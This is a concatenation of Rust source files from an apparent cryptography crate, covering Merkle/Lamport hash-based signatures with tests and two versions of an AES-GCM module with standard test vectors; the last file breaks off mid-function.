        }
        compact_public(&hashes)
    }

    /// Verifies this signature over `message` against `public`.
    #[must_use]
    pub fn verify(&self, message: &[u8], public: &Digest) -> bool {
        crate::ct::eq(&self.recover_public(message), public)
    }
}

fn bit_at(digest: &Digest, i: usize) -> usize {
    ((digest[i / 8] >> (7 - (i % 8))) & 1) as usize
}

fn compact_public(hashes: &[[[u8; 32]; 2]]) -> Digest {
    let mut h = crate::sha256::Sha256::new();
    for pair in hashes {
        h.update(&pair[0]);
        h.update(&pair[1]);
    }
    h.finalize()
}

/// A Merkle many-time signer: `2^height` Lamport leaves under one root.
///
/// # Example
///
/// ```
/// use genio_crypto::sig::MerkleSigner;
///
/// # fn main() -> Result<(), genio_crypto::CryptoError> {
/// let mut signer = MerkleSigner::from_seed(b"update-signing-key", 3);
/// let public = signer.public();
/// let sig = signer.sign(b"onie-image-v2")?;
/// assert!(sig.verify(b"onie-image-v2", &public));
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct MerkleSigner {
    seed: Vec<u8>,
    height: u32,
    next_leaf: u64,
    // tree[0] = leaves, tree[h] = [root]
    tree: Vec<Vec<Digest>>,
}

/// The 32-byte public key of a [`MerkleSigner`] (the Merkle root).
pub type MerklePublicKey = Digest;

/// Copies `N` bytes starting at `off` into a fixed array, zero-filling
/// past the end of `bytes` instead of panicking (callers length-check
/// first, so the fill branch is dead in practice).
fn take_arr<const N: usize>(bytes: &[u8], off: usize) -> [u8; N] {
    let mut out = [0u8; N];
    for (dst, src) in out.iter_mut().zip(bytes.iter().skip(off)) {
        *dst = *src;
    }
    out
}

/// A signature produced by [`MerkleSigner::sign`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MerkleSignature {
    leaf_index: u64,
    ots: LamportSignature,
    auth_path: Vec<Digest>,
}

impl MerkleSigner {
    /// Builds a signer with `2^height` one-time leaves from `seed`.
    ///
    /// Key generation hashes `2^height * 512` preimages, so keep `height`
    /// modest (≤ 10) in tests.
    ///
    /// # Panics
    ///
    /// Panics if `height > 20`.
    pub fn from_seed(seed: &[u8], height: u32) -> Self {
        assert!(height <= 20, "merkle tree height too large");
        let leaves = 1u64 << height;
        let mut level: Vec<Digest> = (0..leaves)
            .map(|i| LamportKeyPair::from_seed(&leaf_seed(seed, i)).public())
            .collect();
        let mut tree = vec![level.clone()];
        while level.len() > 1 {
            level = level
                .chunks(2)
                .map(|pair| sha256_pair(&pair[0], &pair[1]))
                .collect();
            tree.push(level.clone());
        }
        MerkleSigner {
            seed: seed.to_vec(),
            height,
            next_leaf: 0,
            tree,
        }
    }

    /// The Merkle root, i.e. the long-lived public key.
    pub fn public(&self) -> MerklePublicKey {
        // The constructor always builds a non-empty root level; the
        // zero-digest fallback keeps verification failing closed.
        self.tree
            .last()
            .and_then(|level| level.first())
            .copied()
            .unwrap_or_default()
    }

    /// Number of signatures still available.
    pub fn remaining(&self) -> u64 {
        (1u64 << self.height) - self.next_leaf
    }

    /// Signs `message` with the next unused leaf.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::KeyExhausted`] when all `2^height` leaves have
    /// been consumed.
    pub fn sign(&mut self, message: &[u8]) -> crate::Result<MerkleSignature> {
        if self.next_leaf >= 1u64 << self.height {
            return Err(CryptoError::KeyExhausted);
        }
        let index = self.next_leaf;
        self.next_leaf += 1;
        let mut leaf_key = LamportKeyPair::from_seed(&leaf_seed(&self.seed, index));
        let ots = leaf_key.sign(message)?;
        let mut auth_path = Vec::with_capacity(self.height as usize);
        let mut node = index as usize;
        for level in 0..self.height as usize {
            let sibling = node ^ 1;
            auth_path.push(self.tree[level][sibling]);
            node >>= 1;
        }
        Ok(MerkleSignature {
            leaf_index: index,
            ots,
            auth_path,
        })
    }
}

impl MerkleSignature {
    /// Verifies the signature over `message` against the Merkle root
    /// `public`.
    #[must_use]
    pub fn verify(&self, message: &[u8], public: &MerklePublicKey) -> bool {
        let mut node = self.ots.recover_public(message);
        let mut index = self.leaf_index;
        for sibling in &self.auth_path {
            node = if index & 1 == 0 {
                sha256_pair(&node, sibling)
            } else {
                sha256_pair(sibling, &node)
            };
            index >>= 1;
        }
        crate::ct::eq(&node, public)
    }

    /// The index of the one-time leaf that produced this signature.
    pub fn leaf_index(&self) -> u64 {
        self.leaf_index
    }

    /// Serializes to a self-describing byte string (for detached-signature
    /// files in the supply-chain substrate).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(&self.leaf_index.to_be_bytes());
        out.extend_from_slice(&(self.auth_path.len() as u32).to_be_bytes());
        for r in &self.ots.revealed {
            out.extend_from_slice(r);
        }
        for c in &self.ots.complements {
            out.extend_from_slice(c);
        }
        for a in &self.auth_path {
            out.extend_from_slice(a);
        }
        out
    }

    /// Parses the format produced by [`MerkleSignature::to_bytes`].
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::Malformed`] if the buffer has the wrong size or
    /// an implausible header.
    // take_arr never panics on a short buffer (callers length-check
    // first, so the zero-fill branch is dead in practice).
    pub fn from_bytes(bytes: &[u8]) -> crate::Result<Self> {
        const HDR: usize = 8 + 4;
        if bytes.len() < HDR {
            return Err(CryptoError::Malformed("merkle signature header"));
        }
        let leaf_index = u64::from_be_bytes(take_arr(bytes, 0));
        let path_len = u32::from_be_bytes(take_arr::<4>(bytes, 8)) as usize;
        if path_len > 64 {
            return Err(CryptoError::Malformed("merkle signature path length"));
        }
        let expected = HDR + BITS * 32 * 2 + path_len * 32;
        if bytes.len() != expected {
            return Err(CryptoError::Malformed("merkle signature length"));
        }
        let mut off = HDR;
        let mut take32 = |bytes: &[u8]| -> [u8; 32] {
            let arr: [u8; 32] = take_arr(bytes, off);
            off += 32;
            arr
        };
        let revealed: Vec<[u8; 32]> = (0..BITS).map(|_| take32(bytes)).collect();
        let complements: Vec<[u8; 32]> = (0..BITS).map(|_| take32(bytes)).collect();
        let auth_path: Vec<Digest> = (0..path_len).map(|_| take32(bytes)).collect();
        Ok(MerkleSignature {
            leaf_index,
            ots: LamportSignature {
                revealed,
                complements,
            },
            auth_path,
        })
    }
}

fn leaf_seed(seed: &[u8], index: u64) -> Vec<u8> {
    let mut mac = HmacSha256::new(seed);
    mac.update(b"genio-merkle-leaf");
    mac.update(&index.to_be_bytes());
    mac.finalize().to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lamport_sign_verify() {
        let mut kp = LamportKeyPair::from_seed(b"leaf-0");
        let public = kp.public();
        let sig = kp.sign(b"hello").unwrap();
        assert!(sig.verify(b"hello", &public));
        assert!(!sig.verify(b"hellp", &public));
    }

    #[test]
    fn lamport_one_time_enforced() {
        let mut kp = LamportKeyPair::from_seed(b"leaf-0");
        kp.sign(b"first").unwrap();
        assert_eq!(kp.sign(b"second"), Err(CryptoError::KeyExhausted));
    }

    #[test]
    fn lamport_tampered_signature_fails() {
        let mut kp = LamportKeyPair::from_seed(b"leaf-1");
        let public = kp.public();
        let mut sig = kp.sign(b"msg").unwrap();
        sig.revealed[0][0] ^= 1;
        assert!(!sig.verify(b"msg", &public));
    }

    #[test]
    fn merkle_multiple_signatures() {
        let mut signer = MerkleSigner::from_seed(b"ca", 2);
        let public = signer.public();
        for i in 0..4u32 {
            let msg = format!("message {i}");
            let sig = signer.sign(msg.as_bytes()).unwrap();
            assert!(sig.verify(msg.as_bytes(), &public), "sig {i}");
            assert_eq!(sig.leaf_index(), i as u64);
        }
        assert_eq!(signer.sign(b"fifth"), Err(CryptoError::KeyExhausted));
    }

    #[test]
    fn merkle_remaining_counts_down() {
        let mut signer = MerkleSigner::from_seed(b"ca", 2);
        assert_eq!(signer.remaining(), 4);
        signer.sign(b"x").unwrap();
        assert_eq!(signer.remaining(), 3);
    }

    #[test]
    fn merkle_wrong_message_fails() {
        let mut signer = MerkleSigner::from_seed(b"ca", 1);
        let public = signer.public();
        let sig = signer.sign(b"genuine").unwrap();
        assert!(!sig.verify(b"forged", &public));
    }

    #[test]
    fn merkle_wrong_root_fails() {
        let mut signer = MerkleSigner::from_seed(b"ca-a", 1);
        let other = MerkleSigner::from_seed(b"ca-b", 1);
        let sig = signer.sign(b"msg").unwrap();
        assert!(!sig.verify(b"msg", &other.public()));
    }

    #[test]
    fn signature_roundtrips_through_bytes() {
        let mut signer = MerkleSigner::from_seed(b"serialize", 2);
        let public = signer.public();
        let sig = signer.sign(b"payload").unwrap();
        let bytes = sig.to_bytes();
        let parsed = MerkleSignature::from_bytes(&bytes).unwrap();
        assert_eq!(parsed, sig);
        assert!(parsed.verify(b"payload", &public));
    }

    #[test]
    fn from_bytes_rejects_truncation_and_garbage() {
        let mut signer = MerkleSigner::from_seed(b"serialize", 1);
        let bytes = signer.sign(b"p").unwrap().to_bytes();
        assert!(MerkleSignature::from_bytes(&bytes[..bytes.len() - 1]).is_err());
        assert!(MerkleSignature::from_bytes(&[]).is_err());
        let mut huge_path = bytes.clone();
        huge_path[8..12].copy_from_slice(&u32::MAX.to_be_bytes());
        assert!(MerkleSignature::from_bytes(&huge_path).is_err());
    }

    #[test]
    fn deterministic_public_key() {
        let a = MerkleSigner::from_seed(b"same-seed", 2);
        let b = MerkleSigner::from_seed(b"same-seed", 2);
        assert_eq!(a.public(), b.public());
    }
}
