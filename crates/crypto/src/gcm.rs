//! AES-GCM authenticated encryption (NIST SP 800-38D).
//!
//! GCM is the AEAD used throughout the platform: MACsec frames (IEEE
//! 802.1AE mandates AES-GCM), XGS-PON payload encryption (ITU-T G.987.3
//! recommends AES-based payload protection), TLS-1.3-like record protection,
//! and LUKS-like volume encryption in the secure-boot substrate.
//!
//! GHASH is implemented over GF(2^128) with the GCM-reflected reduction
//! polynomial; the implementation is validated against the McGrew–Viega test
//! cases from the original GCM submission.

use crate::aes::{increment_counter, Aes, Block};
use crate::{ct, CryptoError};
use genio_telemetry::{Counter, Histogram, Telemetry};

/// Required nonce length in bytes (the 96-bit fast path of SP 800-38D).
pub const NONCE_LEN: usize = 12;

/// Authentication tag length in bytes.
pub const TAG_LEN: usize = 16;

const R: u128 = 0xe1 << 120;

/// Bitwise multiplication in GF(2^128) with the GCM bit ordering.
/// Reference implementation; the hot path uses [`GhashKey`]'s tables.
fn gf128_mul(x: u128, y: u128) -> u128 {
    let mut z = 0u128;
    let mut v = x;
    for i in 0..128 {
        if (y >> (127 - i)) & 1 == 1 {
            z ^= v;
        }
        let lsb = v & 1;
        v >>= 1;
        if lsb == 1 {
            v ^= R;
        }
    }
    z
}

fn block_to_u128(b: &[u8]) -> u128 {
    let mut buf = [0u8; 16];
    for (slot, byte) in buf.iter_mut().zip(b.iter()) {
        *slot = *byte;
    }
    u128::from_be_bytes(buf)
}

/// Precomputed multiplication tables for a fixed GHASH key `H`.
///
/// `gf128_mul(x, h)` is GF(2)-linear in `x`, so `x·H` decomposes into the
/// XOR of per-byte contributions: one 256-entry table per byte position
/// (64 KiB per key) turns the 128-iteration bitwise multiply into 16 table
/// lookups — the standard software-GHASH optimization.
#[derive(Clone)]
struct GhashKey {
    table: Box<[[u128; 256]; 16]>,
}

impl std::fmt::Debug for GhashKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("GhashKey").finish_non_exhaustive()
    }
}

impl GhashKey {
    fn new(h: u128) -> Self {
        let mut table = Box::new([[0u128; 256]; 16]);
        for pos in 0..16 {
            // One bitwise multiply per bit of the byte, then combine by
            // linearity for all 256 values.
            let mut powers = [0u128; 8];
            for (bit, slot) in powers.iter_mut().enumerate() {
                let x = (1u128 << bit) << ((15 - pos) * 8);
                *slot = gf128_mul(x, h);
            }
            for v in 1usize..256 {
                let mut acc = 0u128;
                for (bit, p) in powers.iter().enumerate() {
                    if v & (1 << bit) != 0 {
                        acc ^= p;
                    }
                }
                table[pos][v] = acc;
            }
        }
        GhashKey { table }
    }

    /// Computes `x · H` via table lookups.
    fn mul(&self, x: u128) -> u128 {
        let bytes = x.to_be_bytes();
        let mut z = 0u128;
        for (row, b) in self.table.iter().zip(bytes.iter()) {
            z ^= row.get(usize::from(*b)).copied().unwrap_or(0);
        }
        z
    }
}

/// GHASH universal hash keyed by `h`, processing `aad` then `ct` then the
/// 64-bit bit lengths, per SP 800-38D §6.4.
fn ghash(h: &GhashKey, aad: &[u8], ct: &[u8]) -> u128 {
    let mut y = 0u128;
    for chunk in aad.chunks(16) {
        y = h.mul(y ^ block_to_u128(chunk));
    }
    for chunk in ct.chunks(16) {
        y = h.mul(y ^ block_to_u128(chunk));
    }
    let lens = ((aad.len() as u128 * 8) << 64) | (ct.len() as u128 * 8);
    h.mul(y ^ lens)
}

/// An AES-GCM AEAD cipher bound to one key.
///
/// # Example
///
/// ```
/// use genio_crypto::gcm::AesGcm;
///
/// # fn main() -> Result<(), genio_crypto::CryptoError> {
/// let aead = AesGcm::new(&[1u8; 32])?;
/// let sealed = aead.seal(&[0u8; 12], b"payload", b"frame header");
/// assert_eq!(aead.open(&[0u8; 12], &sealed, b"frame header")?, b"payload");
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct AesGcm {
    aes: Aes,
    h: GhashKey,
    seal_time: Histogram,
    open_time: Histogram,
    sealed_bytes: Counter,
    opened_bytes: Counter,
}

impl AesGcm {
    /// Creates a GCM cipher from a 16-, 24- or 32-byte AES key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] for other key sizes.
    pub fn new(key: &[u8]) -> crate::Result<Self> {
        let aes = Aes::new(key)?;
        let h = GhashKey::new(u128::from_be_bytes(aes.encrypt_block([0u8; 16])));
        Ok(AesGcm {
            aes,
            h,
            seal_time: Histogram::disabled(),
            open_time: Histogram::disabled(),
            sealed_bytes: Counter::disabled(),
            opened_bytes: Counter::disabled(),
        })
    }

    /// Attaches telemetry: per-call seal/open latency histograms
    /// (`crypto.gcm.seal_ns` / `crypto.gcm.open_ns`) and byte counters.
    /// Handles are resolved here, once; per-call cost is two clock reads
    /// and a few relaxed atomics.
    pub fn instrument(mut self, telemetry: &Telemetry) -> Self {
        self.seal_time = telemetry.histogram("crypto.gcm.seal_ns");
        self.open_time = telemetry.histogram("crypto.gcm.open_ns");
        self.sealed_bytes = telemetry.counter("crypto.gcm.sealed_bytes");
        self.opened_bytes = telemetry.counter("crypto.gcm.opened_bytes");
        self
    }

    fn j0(nonce: &[u8; NONCE_LEN]) -> Block {
        let mut j0 = [0u8; 16];
        for (slot, byte) in j0.iter_mut().zip(nonce.iter()) {
            *slot = *byte;
        }
        j0[15] = 1;
        j0
    }

    /// Encrypts `plaintext` bound to `aad`, returning `ciphertext || tag`.
    ///
    /// Never reuse a `(key, nonce)` pair — GCM's guarantees collapse if the
    /// counter stream repeats.
    pub fn seal(&self, nonce: &[u8; NONCE_LEN], plaintext: &[u8], aad: &[u8]) -> Vec<u8> {
        let _timer = self.seal_time.start();
        self.sealed_bytes.incr(plaintext.len() as u64);
        let j0 = Self::j0(nonce);
        let mut counter = j0;
        increment_counter(&mut counter);
        let mut out = plaintext.to_vec();
        self.aes.ctr_xor(counter, &mut out);
        let tag = self.tag(j0, aad, &out);
        out.extend_from_slice(&tag);
        out
    }

    /// Decrypts `sealed` (as produced by [`AesGcm::seal`]) bound to `aad`.
    ///
    /// # Errors
    ///
    /// * [`CryptoError::CiphertextTooShort`] if `sealed` is shorter than the
    ///   16-byte tag.
    /// * [`CryptoError::AuthenticationFailed`] if the tag does not verify;
    ///   no plaintext is released in that case.
    pub fn open(
        &self,
        nonce: &[u8; NONCE_LEN],
        sealed: &[u8],
        aad: &[u8],
    ) -> crate::Result<Vec<u8>> {
        let _timer = self.open_time.start();
        if sealed.len() < TAG_LEN {
            return Err(CryptoError::CiphertextTooShort);
        }
        let (ct, tag) = sealed.split_at(sealed.len() - TAG_LEN);
        let j0 = Self::j0(nonce);
        let expected = self.tag(j0, aad, ct);
        if !ct::eq(&expected, tag) {
            return Err(CryptoError::AuthenticationFailed);
        }
        let mut counter = j0;
        increment_counter(&mut counter);
        let mut pt = ct.to_vec();
        self.aes.ctr_xor(counter, &mut pt);
        self.opened_bytes.incr(pt.len() as u64);
        Ok(pt)
    }

    fn tag(&self, j0: Block, aad: &[u8], ct: &[u8]) -> [u8; TAG_LEN] {
        let s = ghash(&self.h, aad, ct);
        let e = u128::from_be_bytes(self.aes.encrypt_block(j0));
        (s ^ e).to_be_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hex;

    fn run_case(key: &str, iv: &str, pt: &str, aad: &str, ct: &str, tag: &str) {
        let key = hex::decode(key).unwrap();
        let iv: [u8; 12] = hex::decode(iv).unwrap().try_into().unwrap();
        let pt = hex::decode(pt).unwrap();
        let aad = hex::decode(aad).unwrap();
        let gcm = AesGcm::new(&key).unwrap();
        let sealed = gcm.seal(&iv, &pt, &aad);
        let (got_ct, got_tag) = sealed.split_at(sealed.len() - TAG_LEN);
        assert_eq!(hex::encode(got_ct), ct, "ciphertext");
        assert_eq!(hex::encode(got_tag), tag, "tag");
        assert_eq!(gcm.open(&iv, &sealed, &aad).unwrap(), pt);
    }

    // McGrew-Viega GCM spec, test case 1: everything empty.
    #[test]
    fn gcm_test_case_1() {
        run_case(
            "00000000000000000000000000000000",
            "000000000000000000000000",
            "",
            "",
            "",
            "58e2fccefa7e3061367f1d57a4e7455a",
        );
    }

    // Test case 2: one zero block.
    #[test]
    fn gcm_test_case_2() {
        run_case(
            "00000000000000000000000000000000",
            "000000000000000000000000",
            "00000000000000000000000000000000",
            "",
            "0388dace60b6a392f328c2b971b2fe78",
            "ab6e47d42cec13bdf53a67b21257bddf",
        );
    }

    // Test case 3: four blocks, no AAD.
    #[test]
    fn gcm_test_case_3() {
        run_case(
            "feffe9928665731c6d6a8f9467308308",
            "cafebabefacedbaddecaf888",
            "d9313225f88406e5a55909c5aff5269a86a7a9531534f7da2e4c303d8a318a721c3c0c95956809532fcf0e2449a6b525b16aedf5aa0de657ba637b391aafd255",
            "",
            "42831ec2217774244b7221b784d0d49ce3aa212f2c02a4e035c17e2329aca12e21d514b25466931c7d8f6a5aac84aa051ba30b396a0aac973d58e091473f5985",
            "4d5c2af327cd64a62cf35abd2ba6fab4",
        );
    }

    // Test case 4: partial final block plus AAD.
    #[test]
    fn gcm_test_case_4() {
        run_case(
            "feffe9928665731c6d6a8f9467308308",
            "cafebabefacedbaddecaf888",
            "d9313225f88406e5a55909c5aff5269a86a7a9531534f7da2e4c303d8a318a721c3c0c95956809532fcf0e2449a6b525b16aedf5aa0de657ba637b39",
            "feedfacedeadbeeffeedfacedeadbeefabaddad2",
            "42831ec2217774244b7221b784d0d49ce3aa212f2c02a4e035c17e2329aca12e21d514b25466931c7d8f6a5aac84aa051ba30b396a0aac973d58e091",
            "5bc94fbc3221a5db94fae95ae7121a47",
        );
    }

    // Test case 16: AES-256 with AAD.
    #[test]
    fn gcm_test_case_16() {
        run_case(
            "feffe9928665731c6d6a8f9467308308feffe9928665731c6d6a8f9467308308",
            "cafebabefacedbaddecaf888",
            "d9313225f88406e5a55909c5aff5269a86a7a9531534f7da2e4c303d8a318a721c3c0c95956809532fcf0e2449a6b525b16aedf5aa0de657ba637b39",
            "feedfacedeadbeeffeedfacedeadbeefabaddad2",
            "522dc1f099567d07f47f37a32a84427d643a8cdcbfe5c0c97598a2bd2555d1aa8cb08e48590dbb3da7b08b1056828838c5f61e6393ba7a0abcc9f662",
            "76fc6ece0f4e1768cddf8853bb2d551b",
        );
    }

    #[test]
    fn tampered_ciphertext_rejected() {
        let gcm = AesGcm::new(&[3u8; 16]).unwrap();
        let nonce = [5u8; 12];
        let mut sealed = gcm.seal(&nonce, b"secret", b"aad");
        sealed[0] ^= 0x80;
        assert_eq!(
            gcm.open(&nonce, &sealed, b"aad"),
            Err(CryptoError::AuthenticationFailed)
        );
    }

    #[test]
    fn tampered_aad_rejected() {
        let gcm = AesGcm::new(&[3u8; 16]).unwrap();
        let nonce = [5u8; 12];
        let sealed = gcm.seal(&nonce, b"secret", b"aad");
        assert_eq!(
            gcm.open(&nonce, &sealed, b"aae"),
            Err(CryptoError::AuthenticationFailed)
        );
    }

    #[test]
    fn wrong_nonce_rejected() {
        let gcm = AesGcm::new(&[3u8; 16]).unwrap();
        let sealed = gcm.seal(&[5u8; 12], b"secret", b"");
        assert_eq!(
            gcm.open(&[6u8; 12], &sealed, b""),
            Err(CryptoError::AuthenticationFailed)
        );
    }

    #[test]
    fn short_input_rejected() {
        let gcm = AesGcm::new(&[3u8; 16]).unwrap();
        assert_eq!(
            gcm.open(&[0u8; 12], &[0u8; 15], b""),
            Err(CryptoError::CiphertextTooShort)
        );
    }

    #[test]
    fn gf128_mul_identity_and_commutativity() {
        // The multiplicative identity in GCM's representation is the block
        // 0x80000...0 (bit 0 set, reflected order).
        let one = 1u128 << 127;
        for x in [0u128, 1, one, 0xdeadbeef_u128 << 64, u128::MAX] {
            assert_eq!(gf128_mul(x, one), x);
            assert_eq!(gf128_mul(one, x), x);
        }
        let a = 0x0123_4567_89ab_cdef_u128;
        let b = 0xfedc_ba98_7654_3210_u128 << 13;
        assert_eq!(gf128_mul(a, b), gf128_mul(b, a));
    }

    #[test]
    fn table_mul_matches_bitwise_mul() {
        // The 64 KiB per-key tables must agree with the reference bitwise
        // multiply for arbitrary operands.
        let h = 0x66e9_4bd4_ef8a_2c3b_884c_fa59_ca34_2b2e_u128;
        let key = GhashKey::new(h);
        let mut x = 0x0123_4567_89ab_cdef_fedc_ba98_7654_3210_u128;
        for _ in 0..100 {
            assert_eq!(key.mul(x), gf128_mul(x, h));
            // xorshift to wander the space deterministically.
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
        }
        assert_eq!(key.mul(0), 0);
    }
}
