//! AES-GCM authenticated encryption (NIST SP 800-38D).
//!
//! GCM is the AEAD used throughout the platform: MACsec frames (IEEE
//! 802.1AE mandates AES-GCM), XGS-PON payload encryption (ITU-T G.987.3
//! recommends AES-based payload protection), TLS-1.3-like record protection,
//! and LUKS-like volume encryption in the secure-boot substrate.
//!
//! Two implementations share one key object:
//!
//! * the **fast path** (default): T-table AES rounds with an 8-way
//!   interleaved CTR keystream ([`crate::aes`]) and 8-bit windowed GHASH
//!   tables built once per key ([`crate::ghash`]), plus batched
//!   [`AesGcm::seal_many`]/[`AesGcm::open_many`] so callers amortize
//!   per-frame overhead across a whole TDMA burst;
//! * the **reference path**: straight FIPS 197 S-box rounds and the bitwise
//!   GF(2^128) multiply. Every fast entry point has a `_reference` twin
//!   (`seal_reference`, `open_many_reference`, …) used as the differential
//!   oracle, and `GENIO_CRYPTO_BACKEND=reference` (or the `force-reference`
//!   feature) reroutes the plain entry points onto it process-wide.
//!
//! Both paths are validated against the McGrew–Viega test cases here and the
//! committed NIST/RFC vector corpus in `tests/gcm_vectors.rs`; the
//! differential property suite in `tests/gcm_differential.rs` proves them
//! byte-identical on randomized inputs.

use crate::aes::{backend, increment_counter, Aes, Backend, Block};
use crate::ghash::{ghash_reference, GhashKey};
use crate::{ct, CryptoError};
use genio_telemetry::{Counter, Histogram, Telemetry, TraceContext};

/// Required nonce length in bytes (the 96-bit fast path of SP 800-38D).
pub const NONCE_LEN: usize = 12;

/// Trace-slot namespace for batch spans — disjoint from the PON
/// engine's shard/batch slots so a traced campaign's crypto bursts can
/// never collide with its shard spans.
const TRACE_SLOT_GCM: u64 = 0x0047_434d_0000_0000; // "GCM"

/// Authentication tag length in bytes.
pub const TAG_LEN: usize = 16;

/// An AES-GCM AEAD cipher bound to one key.
///
/// Construction derives the AES key schedule and the 64 KiB GHASH tables
/// once; both are reused for every subsequent seal/open, single or batched —
/// sessions should build one `AesGcm` per key, not one per call.
///
/// # Example
///
/// ```
/// use genio_crypto::gcm::AesGcm;
///
/// # fn main() -> Result<(), genio_crypto::CryptoError> {
/// let aead = AesGcm::new(&[1u8; 32])?;
/// let sealed = aead.seal(&[0u8; 12], b"payload", b"frame header");
/// assert_eq!(aead.open(&[0u8; 12], &sealed, b"frame header")?, b"payload");
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct AesGcm {
    aes: Aes,
    h: GhashKey,
    /// The raw GHASH key `E_K(0^128)`, kept for the reference path.
    h_raw: u128,
    telemetry: Telemetry,
    seal_time: Histogram,
    open_time: Histogram,
    sealed_bytes: Counter,
    opened_bytes: Counter,
    sealed_frames: Counter,
    opened_frames: Counter,
    /// Parent context for batch spans (untraced unless [`AesGcm::with_trace`]).
    trace: TraceContext,
    /// Per-cipher batch sequence: each seal_many/open_many burst gets its
    /// own child span slot, shared across clones of this cipher.
    batch_seq: std::sync::Arc<std::sync::atomic::AtomicU64>,
}

impl AesGcm {
    /// Creates a GCM cipher from a 16-, 24- or 32-byte AES key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] for other key sizes.
    pub fn new(key: &[u8]) -> crate::Result<Self> {
        let aes = Aes::new(key)?;
        let h_raw = u128::from_be_bytes(aes.encrypt_block([0u8; 16]));
        let h = GhashKey::new(h_raw);
        Ok(AesGcm {
            aes,
            h,
            h_raw,
            telemetry: Telemetry::disabled(),
            seal_time: Histogram::disabled(),
            open_time: Histogram::disabled(),
            sealed_bytes: Counter::disabled(),
            opened_bytes: Counter::disabled(),
            sealed_frames: Counter::disabled(),
            opened_frames: Counter::disabled(),
            trace: TraceContext::default(),
            batch_seq: std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0)),
        })
    }

    /// Attaches telemetry: per-call seal/open latency histograms
    /// (`crypto.gcm.seal_ns` / `crypto.gcm.open_ns`), byte/frame counters,
    /// and per-batch spans `crypto.gcm.seal_many` / `crypto.gcm.open_many`.
    /// Handles are resolved here, once; per-call cost is two clock reads
    /// and a few relaxed atomics, and batched calls pay it once per burst
    /// rather than once per frame.
    pub fn instrument(mut self, telemetry: &Telemetry) -> Self {
        self.telemetry = telemetry.clone();
        self.seal_time = telemetry.histogram("crypto.gcm.seal_ns");
        self.open_time = telemetry.histogram("crypto.gcm.open_ns");
        self.sealed_bytes = telemetry.counter("crypto.gcm.sealed_bytes");
        self.opened_bytes = telemetry.counter("crypto.gcm.opened_bytes");
        self.sealed_frames = telemetry.counter("crypto.gcm.sealed_frames");
        self.opened_frames = telemetry.counter("crypto.gcm.opened_frames");
        self
    }

    /// Attaches a causal parent context: every subsequent
    /// `seal_many`/`open_many` span becomes a child of `ctx` (one child
    /// slot per burst), linking crypto batches into the campaign's span
    /// tree. Without this the batch spans record untraced, as before.
    pub fn with_trace(mut self, ctx: TraceContext) -> Self {
        self.trace = ctx;
        self
    }

    /// Child context for the next batch span (untraced stays untraced).
    fn batch_ctx(&self) -> TraceContext {
        if !self.trace.is_traced() {
            return TraceContext::default();
        }
        let seq = self.batch_seq.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        self.trace.child(TRACE_SLOT_GCM | seq)
    }

    fn j0(nonce: &[u8; NONCE_LEN]) -> Block {
        let mut j0 = [0u8; 16];
        for (slot, byte) in j0.iter_mut().zip(nonce.iter()) {
            *slot = *byte;
        }
        j0[15] = 1;
        j0
    }

    /// Encrypts `plaintext` bound to `aad`, returning `ciphertext || tag`.
    ///
    /// Never reuse a `(key, nonce)` pair — GCM's guarantees collapse if the
    /// counter stream repeats.
    pub fn seal(&self, nonce: &[u8; NONCE_LEN], plaintext: &[u8], aad: &[u8]) -> Vec<u8> {
        let _timer = self.seal_time.start();
        self.sealed_bytes.incr(plaintext.len() as u64);
        if backend() == Backend::Reference {
            return self.seal_reference(nonce, plaintext, aad);
        }
        self.seal_one(nonce, plaintext, aad)
    }

    /// Fast-path seal without per-call telemetry; shared by [`AesGcm::seal`]
    /// and [`AesGcm::seal_many`].
    fn seal_one(&self, nonce: &[u8; NONCE_LEN], plaintext: &[u8], aad: &[u8]) -> Vec<u8> {
        let j0 = Self::j0(nonce);
        let mut counter = j0;
        increment_counter(&mut counter);
        let mut out = Vec::with_capacity(plaintext.len() + TAG_LEN);
        out.extend_from_slice(plaintext);
        self.aes.ctr_xor(counter, &mut out);
        let tag = self.tag(j0, aad, &out);
        out.extend_from_slice(&tag);
        out
    }

    /// Reference-path twin of [`AesGcm::seal`]: S-box AES rounds and bitwise
    /// GHASH, no tables, no interleaving. Differential oracle.
    pub fn seal_reference(
        &self,
        nonce: &[u8; NONCE_LEN],
        plaintext: &[u8],
        aad: &[u8],
    ) -> Vec<u8> {
        let j0 = Self::j0(nonce);
        let mut counter = j0;
        increment_counter(&mut counter);
        let mut out = Vec::with_capacity(plaintext.len() + TAG_LEN);
        out.extend_from_slice(plaintext);
        self.aes.ctr_xor_reference(counter, &mut out);
        let tag = self.tag_reference(j0, aad, &out);
        out.extend_from_slice(&tag);
        out
    }

    /// Decrypts `sealed` (as produced by [`AesGcm::seal`]) bound to `aad`.
    ///
    /// # Errors
    ///
    /// * [`CryptoError::CiphertextTooShort`] if `sealed` is shorter than the
    ///   16-byte tag.
    /// * [`CryptoError::AuthenticationFailed`] if the tag does not verify;
    ///   no plaintext is released in that case.
    pub fn open(
        &self,
        nonce: &[u8; NONCE_LEN],
        sealed: &[u8],
        aad: &[u8],
    ) -> crate::Result<Vec<u8>> {
        let _timer = self.open_time.start();
        if backend() == Backend::Reference {
            let pt = self.open_reference(nonce, sealed, aad)?;
            self.opened_bytes.incr(pt.len() as u64);
            return Ok(pt);
        }
        let pt = self.open_one(nonce, sealed, aad)?;
        self.opened_bytes.incr(pt.len() as u64);
        Ok(pt)
    }

    /// Fast-path open without per-call telemetry; shared by [`AesGcm::open`]
    /// and [`AesGcm::open_many`].
    fn open_one(
        &self,
        nonce: &[u8; NONCE_LEN],
        sealed: &[u8],
        aad: &[u8],
    ) -> crate::Result<Vec<u8>> {
